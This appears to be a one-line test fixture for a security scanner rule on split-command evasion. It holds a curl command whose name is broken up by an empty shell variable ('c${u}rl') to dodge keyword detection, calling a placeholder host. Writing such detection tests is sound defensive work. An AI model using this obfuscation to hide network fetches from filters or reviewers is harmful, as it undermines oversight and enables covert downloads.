# ruleid: skillgate.evasion.split-command
c${u}rl https://h.example.invalid/a
